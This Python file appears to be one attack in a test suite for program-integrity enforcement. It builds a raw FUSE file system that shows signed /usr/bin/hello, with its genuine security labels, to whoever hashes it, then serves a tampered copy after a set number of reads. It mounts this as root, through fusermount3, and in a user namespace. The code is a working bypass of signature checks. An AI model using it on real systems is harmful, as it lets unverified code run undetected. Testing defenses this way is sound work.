# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks by a FUSE file system that shows a signed program to who hashes it, and another to who runs it.

python3 twofaced.py DIR [READS] mounts it there and runs its program a few times; the kernel's own protocol
(include/uapi/linux/fuse.h), no library. With READS the setuid fusermount3 mounts it, and the face turns
after the program was read that many times."""

import array
import ctypes
import os
import signal
import socket
import struct
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from arena import attack, call, run, tampered  # noqa: E402

GOOD = Path("/usr/bin/hello")
LOOKUP, FORGET, GETATTR, OPEN, READ, GETXATTR, INIT, INTERRUPT, BATCH_FORGET = 1, 2, 3, 14, 15, 22, 26, 36, 42
RELEASE, FLUSH, ACCESS = 18, 25, 34
ENOENT, ENODATA, ENOSYS = 2, 61, 38
DIRECT_IO = 1
FILE = 2


class TwoFaced:
    """The file system: one directory with one file; the bytes change once the end was read so often."""

    def __init__(self, reads=1):
        self.good = GOOD.read_bytes()
        self.evil = tampered(self.good)
        self.labels = {n: os.getxattr(GOOD, n) for n in os.listxattr(GOOD) if n.startswith("security.")}
        self.left = reads

    def attributes(self, node):
        """struct fuse_attr."""
        size, mode = (len(self.good), 0o100755) if node == FILE else (0, 0o40755)
        return struct.pack("<6Q10I", node, size, 1, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

    def read(self, body):
        """The good face until its end was read often enough, then the evil one."""
        offset, size = struct.unpack_from("<QI", body, 8)
        data = (self.good if self.left > 0 else self.evil)[offset:offset + size]
        self.left -= offset + size >= len(self.good)
        return data

    def label(self, body):
        """A genuine label, or its size."""
        (size,) = struct.unpack_from("<I", body)
        value = self.labels.get(body[8:].split(b"\0")[0].decode())
        if value is None:
            return -ENODATA
        return value if size else struct.pack("<II", len(value), 0)

    def answer(self, code, node, body):
        """The answer to a request: bytes, a negative error, or None for none."""
        if code == INIT:
            return struct.pack("<IIIIHHIIHHI", 7, 31, 0, 0, 16, 12, 4096, 1, 0, 0, 0) + bytes(28)
        if code == LOOKUP:
            if body.rstrip(b"\0") != b"hello":
                return -ENOENT
            return struct.pack("<QQQQII", FILE, 0, 0, 0, 0, 0) + self.attributes(FILE)
        if code == GETATTR:
            return struct.pack("<QII", 0, 0, 0) + self.attributes(node)
        if code == OPEN:
            return struct.pack("<QII", 1, DIRECT_IO, 0)
        if code == READ:
            return self.read(body)
        if code == GETXATTR:
            return self.label(body)
        if code in (FORGET, BATCH_FORGET, INTERRUPT):
            return None
        return b"" if code in (RELEASE, FLUSH, ACCESS) else -ENOSYS

    def serve(self, fd):
        """Answer until it is unmounted."""
        while True:
            try:
                request = os.read(fd, 1 << 17)
            except OSError:
                return
            _, code, unique, node = struct.unpack_from("<IIQQ", request)
            said = self.answer(code, node, request[40:])
            if said is not None:
                error, data = (said, b"") if isinstance(said, int) else (0, said)
                os.write(fd, struct.pack("<IiQ", 16 + len(data), error, unique) + data)


def mounted(place):
    """The descriptor of a mount that root makes."""
    fd = os.open("/dev/fuse", os.O_RDWR)
    options = f"fd={fd},rootmode=40000,user_id=0,group_id=0,default_permissions".encode()
    call("mount", b"twofaced", str(place).encode(), b"fuse", ctypes.c_ulong(0), options)
    return fd


def mounted_by_fusermount(place):
    """The descriptor of a mount that any user may make; fusermount3 hands it over a socket."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    subprocess.run(["fusermount3", "-o", "default_permissions", "--", place], pass_fds=[theirs.fileno()],
                   env={**os.environ, "_FUSE_COMMFD": str(theirs.fileno())}, check=True, timeout=30)
    _, messages, _, _ = ours.recvmsg(1, socket.CMSG_LEN(4))
    return array.array("i", messages[0][2][:4])[0]


def show(place, fd, reads=1):
    """Serve the file system and run its program three times; prints what it said."""
    server = os.fork()      # a process of its own: who starts a program by vfork can't serve it
    if not server:
        TwoFaced(reads).serve(fd)
        os._exit(0)
    os.close(fd)
    for _ in range(3):
        try:
            done = run([f"{place}/hello"])
            print(done.returncode, done.stdout, done.stderr, flush=True)
        except OSError as error:
            print(error, flush=True)
    run(["umount", "-l", str(place)] if os.geteuid() == 0 else ["fusermount3", "-u", "-z", str(place)])
    os.kill(server, signal.SIGKILL)


@attack()
def two_faced_file_system(scene):
    """A FUSE file system of root's."""
    run(["modprobe", "fuse"])
    return scene.runs(sys.executable, __file__, scene.folder("faces"))


@attack("user")
def two_faced_by_fusermount(scene):
    """A FUSE file system that a user mounts by the setuid fusermount3, with files of user 0."""
    return any([scene.runs(sys.executable, __file__, scene.folder(f"faces{n}"), str(n)) for n in (1, 2, 3)])


@attack("root", "user")
def two_faced_in_namespace(scene):
    """A FUSE file system in a user namespace of the attacker's own."""
    return scene.runs("unshare", "-Urm", sys.executable, __file__, scene.folder("faces"))


if __name__ == "__main__":
    if len(sys.argv) > 2:
        show(sys.argv[1], mounted_by_fusermount(sys.argv[1]), int(sys.argv[2]))
    else:
        show(sys.argv[1], mounted(sys.argv[1]))
    os._exit(0)
